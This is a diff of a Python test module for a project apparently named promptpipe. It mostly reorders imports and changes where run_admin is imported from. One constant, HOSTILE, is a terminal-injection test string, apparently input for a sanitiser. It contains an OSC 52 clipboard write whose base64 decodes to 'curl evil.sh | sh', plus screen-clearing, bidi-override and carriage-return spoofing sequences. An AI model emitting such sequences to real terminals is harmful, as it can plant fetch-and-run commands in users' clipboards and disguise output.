@@ -11,17 +11,17 @@ from pathlib import Path
 
 import pytest
 
-from promptpipe.research import admin
 from promptpipe.config import load_settings
-from promptpipe.errors import ConfigError
 from promptpipe.domain.limits import CONTEXT_REJECTIONS_BEFORE_FAILING
 from promptpipe.domain.localtime import is_iana_zone
-from promptpipe.logging import configure_logging, get_logger
 from promptpipe.domain.text import for_terminal
+from promptpipe.errors import ConfigError
+from promptpipe.logging import configure_logging, get_logger
+from promptpipe.research import admin
 from promptpipe.transport.memory import MemoryTransport
 from tests.conftest import AppFactory
 from tests.fakes.openai_server import FakeOpenAIServer
-from tests.test_admin_cli import run_admin
+from tests.research.test_admin_cli import run_admin
 
 ANA = "+14165550123"
 HOSTILE = "ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 done\x1b[2J\x1b[H\u202eevil\rfake line"
